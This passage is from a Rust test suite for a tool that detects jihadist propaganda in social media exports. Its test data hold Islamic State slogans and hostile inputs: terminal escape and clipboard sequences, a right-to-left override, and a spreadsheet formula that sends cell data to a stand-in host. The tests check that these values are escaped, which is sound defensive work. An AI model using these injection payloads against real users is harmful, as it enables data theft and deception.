    let p: f32 = out.split_whitespace().next().unwrap().parse().unwrap();
    assert!(
        p > 0.3,
        "prior {p}: the data no longer make the case\n{out}"
    );
    assert!(out.contains("not flagged (threshold 0.3000)"), "{out}");
    assert!(out.contains("no evidence"), "{out}");
    let o = run(&[
        "explain",
        "--model",
        model_s,
        "--threshold",
        "0.3",
        "khilafah soldiers",
    ]);
    assert!(stdout(&o).contains("FLAGGED"), "{}", stdout(&o));

    let posts = dir.path().join("posts.jsonl");
    let mut f = std::fs::File::create(&posts).unwrap();
    let texts = [
        ("a", "🤔", 0),
        ("a", "6", 0),
        ("a", "@someone_new", 0),
        ("b", "khilafah soldiers advance", 1),
        ("c", "lovely weather", 0),
    ];
    for (i, (acct, text, label)) in texts.iter().enumerate() {
        writeln!(
            f,
            r#"{{"id":"x{i}","account":"{acct}","text":"{text}","label":{label}}}"#
        )
        .unwrap();
    }
    drop(f);
    let out = dir.path().join("report");
    let o = run(&[
        "scan",
        "-q",
        "--model",
        model_s,
        "--threshold",
        "0.3",
        posts.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let flagged: Vec<String> = jsonl(&out.join("posts.jsonl"))
        .iter()
        .map(|p| p["text"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(flagged, ["khilafah soldiers advance"]);
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let acct = |id: &str| accounts.iter().find(|a| a["id"] == id).unwrap().clone();
    assert_eq!(acct("b")["flagged"], true);
    // Account "a" posted only texts without evidence: its risk is over the threshold, and
    // it is not flagged.
    assert!(acct("a")["risk"].as_f64().unwrap() > 0.3, "{:?}", acct("a"));
    assert_eq!(acct("a")["flagged"], false, "{:?}", acct("a"));
    // The summary says how many posts the rule held back, so a lower threshold that flags
    // fewer than expected explains itself.
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["held_back_no_evidence"], 3, "{summary}");
    let text = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(
        text.contains("held back: 3 post(s) over the threshold"),
        "{text}"
    );

    // `eval` counts flags as `scan` does; by probability alone (as fastText is measured)
    // the three texts without evidence count as flagged.
    for (extra, fp, by) in [
        (None, 0, "probability and evidence"),
        (Some("--by-probability"), 3, "probability"),
    ] {
        let mut args = vec!["eval", "--model", model_s, "--threshold", "0.3", "--json"];
        args.extend(extra);
        args.extend(["--data", posts.to_str().unwrap()]);
        let o = run(&args);
        assert!(o.status.success(), "{}", stderr(&o));
        let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
        let c = &v["overall"]["confusion"];
        assert_eq!(
            (c["tp"].as_u64(), c["fp"].as_u64()),
            (Some(1), Some(fp)),
            "{v}"
        );
        assert_eq!(v["flagged_by"], by);
    }
}

/// A folder of exports scans as the input files in it: a Telegram export's `result.json`
/// in each channel's folder, a dump's parts beside them; media, the HTML view and hidden
/// folders are left out, and the user is told how many files were.
#[test]
fn a_folder_scans_as_the_export_files_in_it() {
    let dir = tempfile::tempdir().unwrap();
    let exports = dir.path().join("exports");
    let channel = exports.join("ChatExport_2026-11-01");
    std::fs::create_dir_all(channel.join("photos")).unwrap();
    std::fs::create_dir_all(exports.join(".cache")).unwrap();
    std::fs::copy(
        root().join("tests/data/telegram_result.json"),
        channel.join("result.json"),
    )
    .unwrap();
    std::fs::write(channel.join("photos/photo_1.jpg"), b"\xff\xd8 not a post").unwrap();
    std::fs::write(channel.join("messages.html"), b"<html></html>").unwrap();
    std::fs::write(exports.join(".cache/old.jsonl"), b"not json\n").unwrap();
    std::fs::copy(
        root().join("examples/sample.jsonl"),
        exports.join("part-0001.jsonl"),
    )
    .unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        exports.to_str().unwrap(),
        "--all-posts",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("2 input files; 2 other files left out"),
        "{}",
        stderr(&o)
    );
    let posts = jsonl(&out.join("posts.jsonl"));
    let files: std::collections::BTreeSet<String> = posts
        .iter()
        .map(|p| {
            let f = p["file"].as_str().unwrap();
            f.rsplit('/').take(2).collect::<Vec<_>>().join("<")
        })
        .collect();
    assert_eq!(
        files.into_iter().collect::<Vec<_>>(),
        vec![
            "part-0001.jsonl<exports",
            "result.json<ChatExport_2026-11-01"
        ]
    );
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["files"], 2);
    assert_eq!(summary["skipped_records"], 0, "{summary}");

    // A report written inside the folder is not read back as posts by the next scan.
    let inside = exports.join("report");
    let scan_inside = || {
        let o = run(&[
            "scan",
            exports.to_str().unwrap(),
            "--all-posts",
            "--out",
            inside.to_str().unwrap(),
        ]);
        assert!(o.status.success(), "{}", stderr(&o));
        (jsonl(&inside.join("posts.jsonl")).len(), stderr(&o))
    };
    let (first, _) = scan_inside();
    let (again, err) = scan_inside();
    assert_eq!(first, posts.len());
    assert_eq!(again, first, "the second scan read the first one's report");
    assert!(
        err.contains("report folder") && err.contains("left out"),
        "{err}"
    );
    // Nor is an earlier scan's report elsewhere in the folder.
    std::fs::rename(&inside, exports.join("old-report")).unwrap();
    let (after_move, err) = scan_inside();
    assert_eq!(after_move, first, "an earlier report was read back");
    assert!(err.contains("a raqib report"), "{err}");

    // A folder with nothing to read is an error that says what it looks for.
    let empty = dir.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let o = run(&[
        "scan",
        empty.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("no input file in this folder") && stderr(&o).contains(".jsonl"),
        "{}",
        stderr(&o)
    );
}

/// A post of `posts.jsonl` has evidence, all of it in medium `k`, whose words are `words`:
/// each span names it, and its offsets give its text in them.
fn assert_evidence_in_medium(p: &serde_json::Value, k: u64, words: &str) {
    let ev = p["evidence"].as_array().unwrap();
    assert!(!ev.is_empty(), "{p}");
    for e in ev {
        assert_eq!(e["media"], k, "{e}");
        let (s, t) = (
            e["start"].as_u64().unwrap() as usize,
            e["end"].as_u64().unwrap() as usize,
        );
        assert_eq!(&words[s..t], e["text"].as_str().unwrap(), "{e}");
    }
}

/// A photo's description (alt text) is scored with its post: words of propaganda there
/// flag a post whose text says nothing, and the evidence names the photo (`media`, offsets
/// in its description); the report carries the descriptions. A post with an ordinary
/// description, and a news post describing the group's flag, are not flagged.
#[test]
fn a_photos_description_is_scored_and_its_evidence_placed_in_it() {
    let dir = tempfile::tempdir().unwrap();
    let alt = "جنود الخلافة الدولة الإسلامية باقية وتتمدد";
    let input = write(
        dir.path(),
        "alt.jsonl",
        format!(
            "{}\n{}\n{}\n",
            serde_json::json!({"id": "a1", "account": "u1", "text": "📷",
                "media": [{"kind": "image", "url": "https://img.example/0.jpg"},
                          {"kind": "image", "url": "https://img.example/1.jpg", "alt": alt}]}),
            serde_json::json!({"id": "a2", "account": "u2", "text": "lunch",
                "media": [{"kind": "image", "url": "https://img.example/2.jpg", "alt": "a plate of rice and beans"}]}),
            serde_json::json!({"id": "a3", "account": "u3", "text": "Court hears the case of a returnee",
                "media": [{"kind": "image", "url": "https://img.example/3.jpg", "alt": "Reuters photo of the courthouse in Paris"}]}),
        )
        .as_bytes(),
    );
    let (_d, out) = scan_all_posts(&input);
    let posts = jsonl(&out.join("posts.jsonl"));
    let by = |id: &str| posts.iter().find(|p| p["id"] == id).unwrap().clone();
    let p = by("a1");
    assert_eq!(p["flagged"], true, "{p}");
    assert_eq!(p["text"], "📷");
    assert_eq!(p["media_alt"], serde_json::json!(["", alt]));
    assert_evidence_in_medium(&p, 1, alt);
    for id in ["a2", "a3"] {
        let p = by(id);
        assert_eq!(p["flagged"], false, "{p}");
    }
    // The summary a person reads shows the description and where the evidence is.
    let summary = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(
        summary.contains(&format!("description of medium 2: {alt}")),
        "{summary}"
    );
    assert!(summary.contains("(description of medium 2)"), "{summary}");
}

/// A link card (the title and description a post shows for a linked page, here Bluesky's
/// external embed) is scored apart from the post's own words: a card of propaganda flags
/// a post that says nothing itself, the evidence placed in the card; a news card does not
/// flag its post. The report marks the card's kind, and the summary names it.
#[test]
fn a_link_cards_words_are_scored_and_its_evidence_placed_in_it() {
    let dir = tempfile::tempdir().unwrap();
    let post = |did: &str, rkey: &str, text: &str, uri: &str, title: &str, description: &str| {
        serde_json::json!({"did": did, "time_us": 1764600000000000u64, "kind": "commit",
            "commit": {"rev": "r", "operation": "create", "collection": "app.bsky.feed.post",
                "rkey": rkey, "cid": "c", "record": {"$type": "app.bsky.feed.post",
                "createdAt": "2026-12-01T10:00:00.000Z", "text": text,
                "embed": {"$type": "app.bsky.embed.external",
                    "external": {"uri": uri, "title": title, "description": description}}}}})
    };
    let title = "Soldiers of the caliphate: join the ranks";
    let input = write(
        dir.path(),
        "bsky.jsonl",
        format!(
            "{}\n{}\n",
            post(
                "did:plc:a",
                "1",
                "new",
                "https://files.example/r/77",
                title,
                "answer the call"
            ),
            post(
                "did:plc:b",
                "2",
                "following this",
                "https://news.example/trial",
                "Trial of former fighters opens in Paris",
                "Prosecutors say the men travelled to Syria in 2014"
            ),
        )
        .as_bytes(),
    );
    let (_d, out) = scan_all_posts(&input);
    let posts = jsonl(&out.join("posts.jsonl"));
    let by = |id: &str| {
        posts
            .iter()
            .find(|p| p["id"] == format!("at://{id}"))
            .unwrap()
            .clone()
    };
    let p = by("did:plc:a/app.bsky.feed.post/1");
    assert_eq!(p["flagged"], true, "{p}");
    assert_eq!(p["text"], "new");
    let card = format!("{title}\nanswer the call");
    assert_eq!(p["media_alt"], serde_json::json!([card]));
    assert_eq!(p["media_kind"], serde_json::json!(["link"]));
    assert_evidence_in_medium(&p, 0, &card);
    let news = by("did:plc:b/app.bsky.feed.post/2");
    assert_eq!(news["flagged"], false, "{news}");
    assert_eq!(news["media_kind"], serde_json::json!(["link"]));
    let summary = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(
        summary.contains(&format!("link card 1: {title} answer the call")),
        "{summary}"
    );
    assert!(summary.contains("(link card 1)"), "{summary}");
}

/// What a hostile input puts in an id, an account, a platform, a handle, a place or a
/// field a diagnostic quotes (an escape sequence that drives the reviewer's terminal, a
/// line break that forges a line of the summary, a right-to-left override) is written
/// escaped in the summary, on the terminal and in `summary.txt`, and in the diagnostics:
/// each record still on its one line, and still flagged.
#[test]
fn hostile_ids_and_names_cannot_drive_the_terminal_or_forge_a_line() {
    let dir = tempfile::tempdir().unwrap();
    let input = write(
        dir.path(),
        "esc.jsonl",
        format!(
            "{}\n{}\n{}\n",
            serde_json::json!({"id": "x\u{1b}[31mRED", "platform": "p\nq",
                "account": "a\nFAKE: 0 posts flagged", "place": "pl\u{1b}[2J",
                "text": "جنود الخلافة الدولة الإسلامية باقية وتتمدد"}),
            serde_json::json!({"type": "account", "id": "a\nFAKE: 0 posts flagged",
                "platform": "p\nq", "handle": "h\u{202e}gpj.exe"}),
            serde_json::json!({"type": "account", "id": "b", "status": "\u{1b}]52;c;eA==\u{7}"}),
        )
        .as_bytes(),
    );
    let out = dir.path().join("r");
    let o = run(&["scan", &input, "--out", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let summary = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    for (what, text) in [
        ("stdout", stdout(&o)),
        ("stderr", stderr(&o)),
        ("summary.txt", summary),
    ] {
        assert!(
            !text.contains(['\u{1b}', '\u{7}', '\u{202e}', '\r']),
            "{what}: {text:?}"
        );
        assert!(
            !text.lines().any(|l| l.starts_with("FAKE")),
            "{what}: a line forged: {text}"
        );
    }
    let text = stdout(&o);
    assert!(
        text.contains("p\\u{a}q/x\\u{1b}[31mRED by a\\u{a}FAKE: 0 posts flagged"),
        "{text}"
    );
    assert!(text.contains("@h\\u{202e}gpj.exe"), "{text}");
    assert!(
        stderr(&o).contains("unknown variant `\\u{1b}]52;c;eA==\\u{7}`"),
        "{}",
        stderr(&o)
    );
    // The reports keep the values as they were: JSON escapes them.
    let posts = jsonl(&out.join("posts.jsonl"));
    assert_eq!(posts[0]["id"], "x\u{1b}[31mRED");
    assert_eq!(posts[0]["flagged"], true);
}

/// `accounts.csv` opens in a spreadsheet without running what an account put in its name:
/// a display name or handle that a spreadsheet reads as a formula is written after an
/// apostrophe; an id that is a negative number (a Telegram chat's) is left as it is; the
/// JSON report keeps the values as they were.
#[test]
fn account_names_cannot_become_spreadsheet_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
    let input = write(
        dir.path(),
        "f.jsonl",
        format!(
            "{}\n{}\n",
            serde_json::json!({"type": "account", "id": "-1001234567", "platform": "telegram",
                "display_name": name, "handle": "@SUM(1+1)"}),
            serde_json::json!({"id": "1", "platform": "telegram", "account": "-1001234567",
                "text": "جنود الخلافة الدولة الإسلامية باقية وتتمدد"}),
        )
        .as_bytes(),
    );
    let out = dir.path().join("r");
    let o = run(&["scan", &input, "--out", out.to_str().unwrap(), "-q"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let csv = std::fs::read_to_string(out.join("accounts.csv")).unwrap();
    let row = csv.lines().nth(1).unwrap();
    assert!(
        row.contains(",telegram,-1001234567,'@SUM(1+1),\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\","),
        "{row}"
    );
    let accounts = jsonl(&out.join("accounts.jsonl"));
    assert_eq!(accounts[0]["display_name"], name);
    assert_eq!(accounts[0]["id"], "-1001234567");
}

/// An account whose records give its profile in two versions, the group's words in one
/// and a cooking page in the next, is judged by the stronger: its report's profile score is
/// that version's, and `why` quotes it.
#[test]
fn an_account_that_sheds_its_profiles_words_is_judged_by_them() {
    let dir = tempfile::tempdir().unwrap();
    let input = write(
        dir.path(),
        "versions.jsonl",
        format!(
            "{}\n{}\n{}\n",
            serde_json::json!({"type": "account", "id": "u1", "platform": "x", "handle": "cook_7",
                "bio": "جنود الخلافة الدولة الإسلامية باقية وتتمدد"}),
            serde_json::json!({"id": "1", "platform": "x", "account": "u1", "text": "lunch today"}),
            serde_json::json!({"type": "account", "id": "u1", "platform": "x",
                "bio": "recipes and football"}),
        )
        .as_bytes(),
    );
    let (_d, out) = scan_all_posts(&input);
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let a = &accounts[0];
    assert_eq!(a["handle"], "cook_7", "{a}");
    assert!(a["profile_score"].as_f64().unwrap() > 0.9, "{a}");
    let why = a["why"].as_str().unwrap();
    assert!(
        why.contains("another version of its profile scores") && why.contains("الدولة الإسلامية"),
        "{why}"
    );
}

/// A Discord data package's folder scans as its owner's messages: the owner's account
/// (from `Account/user.json`) holds them all, and the package's other JSON (the account
/// file, channel and server files, the activity log) is left out with a line, not read as
/// posts.
#[test]
fn a_discord_data_package_scans_as_its_owners_messages() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        "tests/data/discord_package",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains("7 other files of an export (Meta's, Discord's, Reddit's) left out"),
        "{err}"
    );
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 4, "{summary}");
    assert_eq!(summary["skipped_records"], 0, "{summary}");
    let accounts = jsonl(&out.join("accounts.jsonl"));
    assert_eq!(accounts.len(), 1, "{accounts:?}");
    assert_eq!(accounts[0]["id"], "100000000000000001");
    assert_eq!(accounts[0]["handle"], "example_user");
    assert_eq!(accounts[0]["posts"], 4);
    let flagged = jsonl(&out.join("posts.jsonl"));
    assert_eq!(flagged.len(), 1, "{flagged:?}");
    assert_eq!(flagged[0]["id"], "1300000000000000001");
    // What a referral to Discord names: the message's page, from its channel's file.
    assert_eq!(
        flagged[0]["permalink"],
        "https://discord.com/channels/300000000000000001/200000000000000001/1300000000000000001"
    );
}

/// Reddit's data request export unzipped: its posts, comments and messages scanned, its
/// other files (statistics, IP logs, votes) left out with a line; the owner's account holds
/// the posts and comments, and says where its flagged ones were made.
#[test]
fn a_reddit_data_export_scans_as_its_owners_posts() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        "tests/data/reddit_export",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains("3 other files of an export (Meta's, Discord's, Reddit's) left out"),
        "{err}"
    );
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 6, "{summary}");
    assert_eq!(
        summary["skipped_records"], 1,
        "the row with no date: {summary}"
    );
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let owner = accounts
        .iter()
        .find(|a| a["id"] == "example_user")
        .expect("the owner's account");
    assert_eq!(owner["posts"], 4);
    assert_eq!(owner["flagged_posts"], 2);
    assert_eq!(
        owner["flagged_in"],
        serde_json::json!([{"place": "r/example_sub", "flagged_posts": 2}])
    );
    let flagged = jsonl(&out.join("posts.jsonl"));
    let ids: Vec<&str> = flagged.iter().map(|p| p["id"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        ["t1_c1", "t3_abc1"],
        "the news and the chatter not flagged"
    );
    // Its chats too: a chat message is its sender's, in its chat.
    let (_all_dir, all) = scan_all_posts("tests/data/reddit_export");
    let chat = jsonl(&all.join("posts.jsonl"))
        .into_iter()
        .find(|p| p["id"] == "chat_m100")
        .expect("the chat message");
    assert_eq!(
        (&chat["account"], &chat["platform"], &chat["place"]),
        (
            &serde_json::json!("another_user"),
            &serde_json::json!("reddit"),
            &serde_json::json!("Match chat")
        )
    );
}

/// Scan `input` with `--all-posts` into a fresh folder; the folder (kept while the caller
/// holds it) and the report path.
fn scan_all_posts(input: &str) -> (tempfile::TempDir, std::path::PathBuf) {
    scan_all_posts_with(input, &[])
}

/// [`scan_all_posts`] with more arguments.
fn scan_all_posts_with(input: &str, more: &[&str]) -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let mut args = vec![
        "scan",
        "--all-posts",
        "-q",
        input,
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend_from_slice(more);
    let o = run(&args);
    assert!(o.status.success(), "{}", stderr(&o));
    (dir, out)
}

/// Tweets as the v1.1 API wrote them (most tweet archives): detected without `--format`,
/// each post credited to its author, the author's profile in the account report, a
/// retweet read with the original's whole text, and stream notices passed over.
#[test]
fn v1_tweets_are_scanned_with_their_authors() {
    let (_dir, out) = scan_all_posts("tests/data/tweets_v1.jsonl");
    let posts = jsonl(&out.join("posts.jsonl"));
    assert_eq!(posts.len(), 3, "{posts:?}");
    assert!(std::fs::read_to_string(out.join("diagnostics.jsonl"))
        .unwrap()
        .is_empty());
    let by_id = |id: &str| posts.iter().find(|p| p["id"] == id).unwrap();
    let first = by_id("1600000000000000001");
    assert_eq!(first["account"], "9000000001");
    assert_eq!(first["line"], 1);
    assert_eq!(first["flagged"], true);
    assert!(first["text"].as_str().unwrap().contains("khilafah & their"));
    let rt = by_id("1600000000000000002");
    assert_eq!(rt["line"], 3);
    assert!(
        rt["text"]
            .as_str()
            .unwrap()
            .ends_with("khilafah & their brothers"),
        "{rt}"
    );
    assert_eq!(by_id("1600000000000000003")["flagged"], false);
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let ansar = accounts.iter().find(|a| a["id"] == "9000000001").unwrap();
    assert_eq!(ansar["handle"], "example_ansar");
    assert_eq!(ansar["platform"], "twitter");
    assert_eq!(ansar["reach"], 77);
    let news = accounts.iter().find(|a| a["id"] == "9000000002").unwrap();
    assert_eq!(news["posts"], 2);
}

/// A Mastodon account archive given as its folder: `actor.json` makes the account (handle,
/// bio), `outbox.json` its posts, HTML made text, each at the line it starts on.
#[test]
fn a_mastodon_archive_folder_is_scanned_as_its_account() {
    let (_dir, out) = scan_all_posts("tests/data/mastodon");
    let posts = jsonl(&out.join("posts.jsonl"));
    assert_eq!(posts.len(), 2, "{posts:?}");
    let flagged = &posts[0];
    assert_eq!(flagged["flagged"], true);
    assert_eq!(flagged["line"], 7);
    assert_eq!(flagged["platform"], "fediverse");
    assert!(
        flagged["text"]
            .as_str()
            .unwrap()
            .starts_with("Join the soldiers of the khilafah & spread"),
        "{flagged}"
    );
    assert_eq!(posts[1]["flagged"], false);
    let accounts = jsonl(&out.join("accounts.jsonl"));
    assert_eq!(accounts.len(), 1, "{accounts:?}");
    assert_eq!(accounts[0]["handle"], "someone");
    assert_eq!(accounts[0]["posts"], 2);
    assert!(std::fs::read_to_string(out.join("diagnostics.jsonl"))
        .unwrap()
        .is_empty());
}

/// The summary counts flagged posts by where they were posted: the places with the most
/// first, a place whose posts were not flagged not listed, posts without a place left out.
#[test]
fn the_summary_lists_the_places_with_the_most_flagged_posts() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("places.jsonl");
    let flagged = "Join the soldiers of the khilafah and spread the release";
    let calm = "Lovely walk by the river this afternoon";
    // A place as long as a record: counted by its first 500 bytes.
    let long = "ل".repeat(1000);
    let mut lines = Vec::new();
    for (i, (place, text)) in [
        ("Channel B", flagged),
        ("Channel A", flagged),
        ("Channel A", flagged),
        ("Channel C", calm),
        ("Channel A", calm),
        ("", flagged),
        (long.as_str(), flagged),
    ]
    .iter()
    .enumerate()
    {
        let place = if place.is_empty() {
            String::new()
        } else {
            format!(r#","place":"{place}""#)
        };
        lines.push(format!(
            r#"{{"raqib":1,"type":"post","id":"p{i}","account":"a{i}","text":"{text}"{place},"permalink":"https://forum.example/t/{i}"}}"#
        ));
    }
    std::fs::write(&f, lines.join("\n") + "\n").unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        "-q",
        f.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["flagged_posts"], 5, "{summary}");
    assert_eq!(
        summary["flagged_by_place"],
        serde_json::json!([["Channel A", 2], ["Channel B", 1], ["ل".repeat(250), 1]])
    );
    assert_eq!(summary["places_with_flagged"], 3);
    // Each strongest post with its page.
    assert_eq!(
        summary["top_posts"][0]["permalink"].as_str().unwrap(),
        format!(
            "https://forum.example/t/{}",
            &summary["top_posts"][0]["id"].as_str().unwrap()[1..]
        )
    );
    let text = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(
        text.contains(
            "places with the most flagged posts:\n        2  Channel A\n        1  Channel B\n        1  لللل"
        ),
        "{text}"
    );
    assert!(
        text.contains("\n         at https://forum.example/t/"),
        "{text}"
    );
}

/// An Element "Export chat" JSON (a Matrix room): the propaganda-style message flagged with
/// its sender, the news reply not, the encrypted event a diagnostic at its line.
#[test]
fn an_element_export_is_scanned_as_a_matrix_room() {
    let (_dir, out) = scan_all_posts("tests/data/element_export.json");
    let posts = jsonl(&out.join("posts.jsonl"));
    let by_id = |id: &str| posts.iter().find(|p| p["id"] == id).unwrap();
    assert_eq!(by_id("$m1")["flagged"], true);
    assert_eq!(by_id("$m1")["account"], "@someone:chat.example");
    // Its page, which any Matrix client opens.
    assert!(
        by_id("$m1")["permalink"]
            .as_str()
            .is_some_and(|l| l.starts_with("https://matrix.to/#/!") && l.ends_with("/$m1")),
        "{:?}",
        by_id("$m1")
    );
    assert_eq!(by_id("$m2")["flagged"], false);
    // The room the export's head names is each post's place.
    assert!(
        posts.iter().all(|p| p["place"] == "Example room"),
        "{posts:?}"
    );
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let someone = accounts
        .iter()
        .find(|a| a["id"] == "@someone:chat.example")
        .unwrap();
    assert_eq!(someone["display_name"], "Some One");
    assert_eq!(someone["platform"], "matrix");
    let diags = jsonl(&out.join("diagnostics.jsonl"));
    assert_eq!(diags.len(), 1, "{diags:?}");
    assert!(diags[0]["message"].as_str().unwrap().contains("encrypted"));
}

/// A Matrix message edited twice (each edit an event of its own, naming the message; the
/// message, posted before them, names none): three posts of the report, one post of its
/// sender's, flagged once and listed once among its top posts, and the summary says two
/// versions were counted with it.
#[test]
fn a_matrix_message_and_its_edits_count_once_for_the_sender() {
    let (_dir, out) = scan_all_posts_with("tests/data/matrix_edits.jsonl", &["--format", "matrix"]);
    let posts = jsonl(&out.join("posts.jsonl"));
    assert_eq!(posts.len(), 4, "{posts:?}");
    let by_id = |id: &str| posts.iter().find(|p| p["id"] == id).unwrap();
    for id in ["$a", "$b", "$c"] {
        assert_eq!(by_id(id)["flagged"], true, "{}", by_id(id));
    }
    // The edits name the message; the message is not said to be its own first version.
    assert_eq!(by_id("$b")["first_version"], "$a");
    assert_eq!(by_id("$c")["first_version"], "$a");
    assert!(
        by_id("$a").get("first_version").is_none(),
        "{}",
        by_id("$a")
    );
    assert_eq!(by_id("$d")["flagged"], false);
    let accounts = jsonl(&out.join("accounts.jsonl"));
    assert_eq!(accounts.len(), 1, "{accounts:?}");
    assert_eq!(
        (&accounts[0]["posts"], &accounts[0]["flagged_posts"]),
        (&2.into(), &1.into()),
        "{}",
        accounts[0]
    );
    // Its top posts hold the message once, by its strongest version, beside the other
    // post (before, the three versions filled the list).
    assert_eq!(accounts[0]["top_posts"], serde_json::json!(["$c", "$d"]));
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 4);
    assert_eq!(summary["edited_versions_merged"], 2);
    // The summary's strongest posts list the post once, by its strongest version (the
    // last edit), and say it is an edit, and of what.
    let text = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(text.contains("matrix/$c (an edit of $a) by"), "{text}");
    assert!(!text.contains("matrix/$a by"), "{text}");
    assert!(!text.contains("matrix/$b"), "{text}");
    let top: Vec<&str> = summary["top_posts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["id"].as_str().unwrap())
        .collect();
    assert_eq!(top, ["$c"]);
    assert!(summary.get("edited_versions_apart").is_none(), "{summary}");

    // Keeping track of none, each edit counts as a post of its own, and the summary says so.
    let (_dir, out) = scan_all_posts_with(
        "tests/data/matrix_edits.jsonl",
        &["--format", "matrix", "--track-edits", "0"],
    );
    let accounts = jsonl(&out.join("accounts.jsonl"));
    assert_eq!(
        (&accounts[0]["posts"], &accounts[0]["flagged_posts"]),
        (&4.into(), &3.into()),
        "{}",
        accounts[0]
    );
    let text = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(
        text.contains(
            "edited posts: 2 later version(s) counted for their accounts as posts of their own"
        ),
        "{text}"
    );
}

/// A Discord channel exported by DiscordChatExporter: the propaganda-style message flagged
/// with its author's account, the news bot's reply not, though the page it links to (its
/// embed, scored as a link card) repeats the words in its report.
#[test]
fn a_discord_export_is_scanned_as_a_channel() {
    let (_dir, out) = scan_all_posts("tests/data/discord_channel.json");
    let posts = jsonl(&out.join("posts.jsonl"));
    assert_eq!(posts.len(), 2, "{posts:?}");
    assert_eq!(posts[0]["flagged"], true);
    assert_eq!(posts[0]["account"], "700000000000000001");
    assert_eq!(posts[1]["flagged"], false);
    // Its embed was read and scored, as the report shows: a news page's words.
    assert_eq!(posts[1]["media_kind"], serde_json::json!(["link"]));
    assert!(
        posts[1]["media_alt"][0]
            .as_str()
            .is_some_and(|a| a.starts_with("Arrests\nPolice arrested")),
        "{}",
        posts[1]
    );
    // Where each was posted: the server and channel the export's head names; and its
    // page, from their ids and its own.
    for p in &posts {
        assert_eq!(p["place"], "Example server / #general", "{p}");
        assert_eq!(
            p["permalink"],
            format!(
                "https://discord.com/channels/600000000000000001/650000000000000001/{}",
                p["id"].as_str().unwrap()
            ),
            "{p}"
        );
    }
    let summary = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(
        summary.contains("by 700000000000000001 in Example server / #general  ["),
        "{summary}"
    );
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let someone = accounts
        .iter()
        .find(|a| a["id"] == "700000000000000001")
        .unwrap();
    assert_eq!(someone["handle"], "someone");
    assert_eq!(someone["display_name"], "Some One");
}

/// Telegram Desktop's HTML export (its default form): the folder's pages read without
/// `--format`, in name order, each message a post of the chat, a forward's text flagged
/// and the channel it was posted in credited, the news post beside it not flagged.
#[test]
fn a_telegram_html_export_is_scanned_from_its_folder() {
    let (_dir, out) = scan_all_posts("tests/data/telegram_html");
    let posts = jsonl(&out.join("posts.jsonl"));
    let ids: Vec<&str> = posts.iter().map(|p| p["id"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        [
            "Example Channel/2",
            "Example Channel/3",
            "Example Channel/4",
            "Example Channel/6",
            "Example Channel/7",
            "Example Channel/8",
            "Example Channel/1001"
        ]
    );
    let by_id = |id: &str| posts.iter().find(|p| p["id"] == id).unwrap();
    let forward = by_id("Example Channel/6");
    assert_eq!(forward["flagged"], true, "{forward}");
    assert_eq!(forward["place"], "Example Channel", "{forward}");
    assert_eq!(forward["account"], "Example Channel");
    assert_eq!(
        forward["file"].as_str().unwrap().rsplit('/').next(),
        Some("messages.html")
    );
    let news = by_id("Example Channel/7");
    assert_eq!(news["flagged"], false, "{news}");
    assert_eq!(news["account"], "Newsdesk & Friends");
